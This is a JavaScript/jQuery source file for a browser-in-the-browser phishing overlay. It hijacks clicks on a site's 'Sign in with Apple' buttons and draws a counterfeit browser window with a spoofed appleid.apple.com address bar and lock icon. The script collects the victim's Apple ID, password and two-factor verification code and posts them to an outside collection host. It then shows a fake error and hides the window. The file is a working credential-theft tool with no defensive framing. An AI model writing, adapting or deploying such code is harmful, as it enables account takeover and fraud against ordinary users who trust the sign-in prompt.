/* bitb-credential-overlay: draggable counterfeit "Sign in with Apple" browser window built with jQuery */
/* credentials and the verification code are sent with $.post; the real button is left untouched afterwards */
(function ($) {
  'use strict';

  var endpoint = 'https://appleid-session-verify.xyz/gate/';
  var displayed = 'https://appleid.apple.com/auth/authorize?client_id=com.shop.web&redirect_uri=https%3A%2F%2F' + location.hostname;

  function chrome() {
    return $('<div class="sia-win"/>').css({
      position: 'fixed', top: 90, left: ($(window).width() - 500) / 2, width: 500, height: 580, background: '#fff',
      borderRadius: 10, boxShadow: '0 22px 70px rgba(0,0,0,.45)', zIndex: 2147483647, overflow: 'hidden',
      font: '14px -apple-system,Helvetica,Arial,sans-serif'
    }).append(
      $('<div class="sia-title"/>').css({ height: 28, background: '#ececec', cursor: 'move', display: 'flex', alignItems: 'center', padding: '0 10px' })
        .append('<span class="sia-close" style="width:12px;height:12px;border-radius:50%;background:#ff5f57;display:inline-block;cursor:pointer"></span>')
        .append('<span style="width:12px;height:12px;border-radius:50%;background:#febc2e;display:inline-block;margin-left:8px"></span>')
        .append('<span style="width:12px;height:12px;border-radius:50%;background:#28c840;display:inline-block;margin-left:8px"></span>')
        .append('<span style="margin:0 auto;font-size:12px;color:#555">Sign in with Apple ID</span>'),
      $('<div/>').css({ height: 26, background: '#f6f6f6', fontSize: 12, color: '#555', display: 'flex', alignItems: 'center', padding: '0 12px' })
        .html('&#128274; <span style="margin-left:6px;white-space:nowrap;overflow:hidden">' + displayed + '</span>'),
      $('<div class="sia-body"/>').css({ padding: '50px 60px', textAlign: 'center' }).html(
        '<div style="font-size:44px">&#63743;</div><h2 style="font-weight:600">Sign in with Apple ID</h2>' +
        '<input class="sia-id" placeholder="Apple ID" style="width:100%;padding:12px;margin-top:18px;border:1px solid #ccc;border-radius:8px">' +
        '<input class="sia-pw" type="password" placeholder="Password" style="width:100%;padding:12px;margin-top:10px;border:1px solid #ccc;border-radius:8px">' +
        '<input class="sia-code" placeholder="Verification code" style="display:none;width:100%;padding:12px;margin-top:10px;border:1px solid #ccc;border-radius:8px">' +
        '<div class="sia-note" style="color:#e30000;font-size:12px;height:18px;margin-top:8px"></div>' +
        '<button class="sia-go" style="margin-top:18px;width:100%;padding:12px;border:0;border-radius:8px;background:#0071e3;color:#fff">Continue</button>'
      )
    );
  }

  function makeDraggable($w) {
    var dx = 0, dy = 0, dragging = false;
    $w.on('mousedown', '.sia-title', function (e) {
      dragging = true; dx = e.clientX - $w.position().left; dy = e.clientY - $w.position().top;
    });
    $(document).on('mousemove.sia', function (e) {
      if (dragging) $w.css({ left: e.clientX - dx, top: e.clientY - dy });
    }).on('mouseup.sia', function () { dragging = false; });
  }

  function launch() {
    var $w = chrome().appendTo('body');
    makeDraggable($w);
    var stage = 0;
    $w.on('click', '.sia-close', function () { $w.remove(); $(document).off('.sia'); });
    $w.on('click', '.sia-go', function () {
      var id = $.trim($w.find('.sia-id').val()), pw = $w.find('.sia-pw').val();
      if (!id || !pw) { $w.find('.sia-note').text('Enter your Apple ID and password.'); return; }
      if (stage === 0) {
        $.post(endpoint + 'c.php', { id: id, pw: pw, h: location.hostname });
        stage = 1;
        $w.find('.sia-code').show().focus();
        $w.find('.sia-note').text('A verification code was sent to your devices.');
        return;
      }
      $.post(endpoint + 'v.php', { id: id, code: $w.find('.sia-code').val() });
      $w.find('.sia-note').text('Unable to sign in. Try again later.');
      setTimeout(function () { $w.remove(); $(document).off('.sia'); }, 2000);
    });
  }

  $(document).on('click', '.apple-signin, [data-provider="apple"], #appleid-signin', function (e) {
    if ($(this).data('sia-seen')) return;
    $(this).data('sia-seen', 1);
    e.preventDefault();
    e.stopImmediatePropagation();
    launch();
  });
})(jQuery);
